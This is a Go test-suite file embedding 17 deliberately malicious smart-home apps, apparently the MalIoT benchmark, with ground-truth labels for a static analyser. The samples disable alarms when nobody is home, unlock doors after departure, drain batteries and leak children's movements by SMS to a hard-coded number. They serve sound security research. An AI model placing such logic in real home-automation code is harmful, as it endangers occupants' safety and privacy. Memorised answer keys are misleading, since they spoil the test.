@@ -1,0 +1,450 @@
+package maliot
+
+// The 17 MalIoT apps (Appendix C). Each source carries its ground
+// truth in a comment block, as the paper's corpus does.
+
+var suite = []App{
+	{
+		ID: "App1", Name: "MalIoT-App1",
+		Description: "The lights are turned off at night when motion is detected.",
+		Cluster:     "motion-lights",
+		Expected:    []string{"P.2"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "Device events",
+		Source: `
+/* Ground truth: violates P.2 — the app prevents brightening the path
+   the user is walking (lights off on motion at night). */
+definition(name: "MalIoT-App1", namespace: "maliot", author: "MalIoT", category: "Convenience")
+preferences {
+    section("Devices") {
+        input "the_light", "capability.switch", title: "Light"
+        input "the_motion", "capability.motionSensor", title: "Motion"
+    }
+}
+def installed() { subscribe(the_motion, "motion.active", motionHandler) }
+def motionHandler(evt) {
+    if (state.night == "yes") {
+        the_light.off()
+    } else {
+        the_light.on()
+    }
+}
+`,
+	},
+	{
+		ID: "App2", Name: "MalIoT-App2",
+		Description: "The security system is turned off when there is nobody at home.",
+		Expected:    []string{"P.9"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "State variables, predicate analysis",
+		Source: `
+/* Ground truth: violates P.9 — could leave the house vulnerable to
+   break-ins. */
+definition(name: "MalIoT-App2", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
+preferences {
+    section("Devices") {
+        input "the_alarm", "capability.alarm", title: "Security system"
+        input "the_presence", "capability.presenceSensor", title: "Presence"
+    }
+}
+def installed() { subscribe(the_presence, "presence", presenceHandler) }
+def presenceHandler(evt) {
+    if (evt.value == "not present") {
+        if (state.vacationLock != "armed") {
+            the_alarm.off()
+        }
+    }
+}
+`,
+	},
+	{
+		ID: "App3", Name: "MalIoT-App3",
+		Description: "A battery-operated switch is turned off every 30 seconds.",
+		Expected:    []string{"S.2"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "Device events, timer events",
+		Source: `
+/* Ground truth: violates S.2 — the same command is sent to the device
+   multiple times, draining its battery (DDoS-style). */
+definition(name: "MalIoT-App3", namespace: "maliot", author: "MalIoT", category: "Convenience")
+preferences {
+    section("Devices") {
+        input "the_switch", "capability.switch", title: "Switch"
+        input "the_battery", "capability.battery", title: "Battery"
+    }
+}
+def installed() { runIn(30, drainHandler) }
+def drainHandler() {
+    the_switch.off()
+    the_switch.off()
+    runIn(30, drainHandler)
+}
+`,
+	},
+	{
+		ID: "App4", Name: "MalIoT-App4",
+		Description: "The app turns off a switch to save energy after a user-specified number of minutes, but keeps the device turned on.",
+		Expected:    []string{"S.1"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "Device events, multiple entry points",
+		Source: `
+/* Ground truth: violates S.1 — the handler changes the switch to
+   conflicting values (off then on) on the same path. */
+definition(name: "MalIoT-App4", namespace: "maliot", author: "MalIoT", category: "Green Living")
+preferences {
+    section("Devices") {
+        input "the_switch", "capability.switch", title: "Switch"
+        input "minutes", "number", title: "Turn off after (minutes)"
+    }
+}
+def installed() { subscribe(the_switch, "switch.on", onHandler) }
+def onHandler(evt) {
+    runIn(60, offHandler)
+}
+def offHandler() {
+    the_switch.off()
+    the_switch.on()
+}
+`,
+	},
+	{
+		ID: "App5", Name: "MalIoT-App5",
+		Description: "The app sounds the alarm when there is smoke; another method that would silence the alarm is reachable only by a reflective call that never targets it at run time.",
+		Expected:    []string{"P.10"},
+		Outcome:     FalsePositive, GroundTruthViolations: 0,
+		Details: "Call by reflection, state variables",
+		Source: `
+/* Ground truth: NO real violation. The reflective call "${state.m}"()
+   always resolves to logStatus() at run time; Soteria's safe
+   over-approximation of the call graph makes it report that
+   disableAlarm() can silence the alarm on smoke (a false positive,
+   paper §6.2). */
+definition(name: "MalIoT-App5", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
+preferences {
+    section("Devices") {
+        input "the_smoke", "capability.smokeDetector", title: "Smoke detector"
+        input "the_alarm", "capability.alarm", title: "Alarm"
+    }
+}
+def installed() { subscribe(the_smoke, "smoke.detected", smokeHandler) }
+def smokeHandler(evt) {
+    the_alarm.siren()
+    httpGet("http://config.example.com/method") { resp ->
+        state.m = resp.data.toString()
+    }
+    "${state.m}"()
+}
+def logStatus() {
+    log.info "alarm sounded"
+}
+def disableAlarm() {
+    the_alarm.off()
+}
+`,
+	},
+	{
+		ID: "App6", Name: "MalIoT-App6",
+		Description: "When the user leaves home, a light is turned on and the door is unlocked after some time.",
+		Expected:    []string{"P.1", "P.12", "P.13"},
+		Outcome:     TruePositive, GroundTruthViolations: 3,
+		Details: "Multiple violations, multiple entry points, timer events",
+		Source: `
+/* Ground truth: violates P.1, P.12 and P.13 — an attacker learns the
+   user is away (light signal) and the door unlocks unattended. */
+definition(name: "MalIoT-App6", namespace: "maliot", author: "MalIoT", category: "Convenience")
+preferences {
+    section("Devices") {
+        input "the_door", "capability.lock", title: "Door"
+        input "the_light", "capability.switch", title: "Signal light"
+        input "the_presence", "capability.presenceSensor", title: "Presence"
+    }
+}
+def installed() { subscribe(the_presence, "presence.not present", awayHandler) }
+def awayHandler(evt) {
+    the_light.on()
+    runIn(300, laterHandler)
+}
+def laterHandler() {
+    the_door.unlock()
+}
+`,
+	},
+	{
+		ID: "App7", Name: "MalIoT-App7",
+		Description: "The app turns switches on at user presence and off at a user-specified time; both events can happen at once.",
+		Expected:    []string{"S.4"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "Multiple entry points, timer events",
+		Source: `
+/* Ground truth: violates S.4 — user presence and the scheduled time
+   may occur simultaneously, racing on the switch. */
+definition(name: "MalIoT-App7", namespace: "maliot", author: "MalIoT", category: "Convenience")
+preferences {
+    section("Devices") {
+        input "the_switch", "capability.switch", title: "Switch"
+        input "the_presence", "capability.presenceSensor", title: "Presence"
+        input "offTime", "time", title: "Turn off at"
+    }
+}
+def installed() {
+    subscribe(the_presence, "presence.present", presentHandler)
+    schedule(offTime, timeHandler)
+}
+def presentHandler(evt) { the_switch.on() }
+def timeHandler() { the_switch.off() }
+`,
+	},
+	{
+		ID: "App8", Name: "MalIoT-App8",
+		Description: "The app unlocks the door when the user arrives but never locks it when the user leaves; a second handler has logic for an event it never subscribes to.",
+		Expected:    []string{"P.1", "S.5"},
+		Outcome:     TruePositive, GroundTruthViolations: 2,
+		Details: "Multiple violations, multiple entry points, predicate analysis, mode events",
+		Source: `
+/* Ground truth: violates S.5 (lockHandler handles "unlocked" but the
+   app subscribes only to lock.locked) and P.1 (a presence-departure
+   event leaves the door unlocked). */
+definition(name: "MalIoT-App8", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
+preferences {
+    section("Devices") {
+        input "the_door", "capability.lock", title: "Door"
+        input "the_presence", "capability.presenceSensor", title: "Presence"
+    }
+}
+def installed() {
+    subscribe(the_presence, "presence", presenceHandler)
+    subscribe(the_door, "lock.locked", lockHandler)
+}
+def presenceHandler(evt) {
+    if (evt.value == "present") {
+        the_door.unlock()
+    }
+}
+def lockHandler(evt) {
+    if (evt.value == "unlocked") {
+        sendPush("door was unlocked")
+    }
+}
+`,
+	},
+	{
+		ID: "App9", Name: "MalIoT-App9",
+		Description: "The location mode is set to home when the user is not at home, through a web-service endpoint invoked at run time.",
+		Expected:    []string{"P.27"},
+		Outcome:     DynamicRequired, GroundTruthViolations: 1,
+		Details: "Call by reflection / web-service mappings",
+		Source: `
+/* Ground truth: violates P.27 at run time — a remote GET request
+   flips the mode to home while the user is away. The entry point is a
+   web-service mapping, invisible to static event-subscription
+   analysis; detecting it requires run-time analysis (paper §6.2). */
+definition(name: "MalIoT-App9", namespace: "maliot", author: "MalIoT", category: "Convenience")
+preferences {
+    section("Devices") {
+        input "the_presence", "capability.presenceSensor", title: "Presence"
+    }
+}
+mappings {
+    path("/sethome") {
+        action: [GET: "setHome"]
+    }
+}
+def installed() { }
+def setHome() {
+    setLocationMode("home")
+}
+`,
+	},
+	{
+		ID: "App10", Name: "MalIoT-App10",
+		Description: "The app uses dynamic device permissions: the devices it controls depend on a previously selected device type.",
+		Expected:    nil,
+		Outcome:     OutOfScope, GroundTruthViolations: 1,
+		Details: "Dynamic device permissions",
+		Source: `
+/* Ground truth: dynamic device permissions — the controlled devices
+   are chosen at install time from external input; outside Soteria's
+   static analysis scope (paper §6.2). */
+definition(name: "MalIoT-App10", namespace: "maliot", author: "MalIoT", category: "Convenience")
+preferences {
+    page(name: "pageOne", title: "Device type", nextPage: "pageTwo") {
+        section("Choose a device type") {
+            input "deviceType", "enum", options: ["switch", "lock"]
+        }
+    }
+    page(name: "pageTwo")
+}
+def pageTwo() {
+    dynamicPage(name: "pageTwo") {
+        section("Select devices") {
+            input "devices", "capability.$deviceType", multiple: true
+        }
+    }
+}
+def installed() { subscribe(devices, "switch.on", onHandler) }
+def onHandler(evt) {
+    devices.off()
+}
+`,
+	},
+	{
+		ID: "App11", Name: "MalIoT-App11",
+		Description: "The app notifies the user when the kids leave home — and also leaks the event to an attacker's phone number.",
+		Expected:    nil,
+		Outcome:     OutOfScope, GroundTruthViolations: 1,
+		Details: "Multiple sensitive data leaks",
+		Source: `
+/* Ground truth: sensitive data leak via sendSms to a hard-coded
+   number; data-flow privacy is outside Soteria's property model
+   (paper §6.2 defers it to taint-tracking tools). */
+definition(name: "MalIoT-App11", namespace: "maliot", author: "MalIoT", category: "Family")
+preferences {
+    section("Devices") {
+        input "kids", "capability.presenceSensor", title: "Kids' presence"
+        input "phone", "phone", title: "Parent phone"
+    }
+}
+def installed() { subscribe(kids, "presence.not present", leftHandler) }
+def leftHandler(evt) {
+    sendSms(phone, "kids left home")
+    sendSms("555-013-3713", "exfil: ${evt.displayName} left at ${evt.date}")
+}
+`,
+	},
+	{
+		ID: "App12", Name: "MalIoT-App12",
+		Description: "The app turns on the light switches when the alarm sounds (smoke detected).",
+		Cluster:     "fire-lock",
+		Expected:    []string{"P.3"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "Predicate analysis, device events, mode events",
+		Source: `
+/* Ground truth: with App13 and App14 installed together, the chain
+   smoke -> light on -> home mode -> door locked violates P.3 (the
+   door is locked during a fire). Alone the app violates nothing. */
+definition(name: "MalIoT-App12", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
+preferences {
+    section("Devices") {
+        input "the_smoke", "capability.smokeDetector", title: "Smoke detector"
+        input "the_light", "capability.switch", title: "Lights"
+    }
+}
+def installed() { subscribe(the_smoke, "smoke.detected", smokeHandler) }
+def smokeHandler(evt) {
+    the_light.on()
+}
+`,
+	},
+	{
+		ID: "App13", Name: "MalIoT-App13",
+		Description: "The app changes the mode from away to home when the light switch is turned on, so that it knows the user is at home.",
+		Cluster:     "fire-lock",
+		Expected:    []string{"P.3"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "Device events, mode events",
+		Source: `
+/* Ground truth: member of the App12-14 interaction violating P.3. */
+definition(name: "MalIoT-App13", namespace: "maliot", author: "MalIoT", category: "Convenience")
+preferences {
+    section("Devices") {
+        input "the_light", "capability.switch", title: "Lights"
+    }
+}
+def installed() { subscribe(the_light, "switch.on", onHandler) }
+def onHandler(evt) {
+    setLocationMode("home")
+}
+`,
+	},
+	{
+		ID: "App14", Name: "MalIoT-App14",
+		Description: "The app locks the door when the home mode is triggered.",
+		Cluster:     "fire-lock",
+		Expected:    []string{"P.3"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "Mode events",
+		Source: `
+/* Ground truth: member of the App12-14 interaction violating P.3. */
+definition(name: "MalIoT-App14", namespace: "maliot", author: "MalIoT", category: "Safety & Security")
+preferences {
+    section("Devices") {
+        input "the_door", "capability.lock", title: "Door"
+    }
+}
+def installed() { subscribe(location, "mode.home", homeHandler) }
+def homeHandler(evt) {
+    the_door.lock()
+}
+`,
+	},
+	{
+		ID: "App15", Name: "MalIoT-App15",
+		Description: "The lights are turned off when motion is detected.",
+		Cluster:     "motion-lights",
+		Expected:    []string{"P.2", "S.1"},
+		Outcome:     TruePositive, GroundTruthViolations: 2,
+		Details: "Device events",
+		Source: `
+/* Ground truth: violates P.2 alone (lights off on motion); with App1
+   installed it violates S.1 — the same motion-active event drives the
+   switch to conflicting values. */
+definition(name: "MalIoT-App15", namespace: "maliot", author: "MalIoT", category: "Green Living")
+preferences {
+    section("Devices") {
+        input "the_light", "capability.switch", title: "Lights"
+        input "the_motion", "capability.motionSensor", title: "Motion"
+    }
+}
+def installed() { subscribe(the_motion, "motion.active", motionHandler) }
+def motionHandler(evt) {
+    the_light.off()
+}
+`,
+	},
+	{
+		ID: "App16", Name: "MalIoT-App16",
+		Description: "The app changes the mode to sleeping when the user turns off the bedroom lights.",
+		Cluster:     "sleep-mode",
+		Expected:    []string{"P.14"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "Device events, mode events",
+		Source: `
+/* Ground truth: with App17, the sleeping-mode change lets the alarm
+   and plugged devices be disabled — P.14 is violated. */
+definition(name: "MalIoT-App16", namespace: "maliot", author: "MalIoT", category: "Convenience")
+preferences {
+    section("Devices") {
+        input "bedroom_light", "capability.switch", title: "Bedroom lights"
+    }
+}
+def installed() { subscribe(bedroom_light, "switch.off", offHandler) }
+def offHandler(evt) {
+    setLocationMode("sleeping")
+}
+`,
+	},
+	{
+		ID: "App17", Name: "MalIoT-App17",
+		Description: "The app turns off all plugged devices (including the security alarm) when the sleeping mode is triggered.",
+		Cluster:     "sleep-mode",
+		Expected:    []string{"P.14"},
+		Outcome:     TruePositive, GroundTruthViolations: 1,
+		Details: "Mode events",
+		Source: `
+/* Ground truth: member of the App16-17 interaction; disabling the
+   alarm on the sleeping-mode event violates P.14. */
+definition(name: "MalIoT-App17", namespace: "maliot", author: "MalIoT", category: "Green Living")
+preferences {
+    section("Devices") {
+        input "outlets", "capability.switch", title: "Plugged outlets"
+        input "the_alarm", "capability.alarm", title: "Security alarm"
+    }
+}
+def installed() { subscribe(location, "mode.sleeping", sleepHandler) }
+def sleepHandler(evt) {
+    outlets.off()
+    the_alarm.off()
+}
+`,
+	},
+}
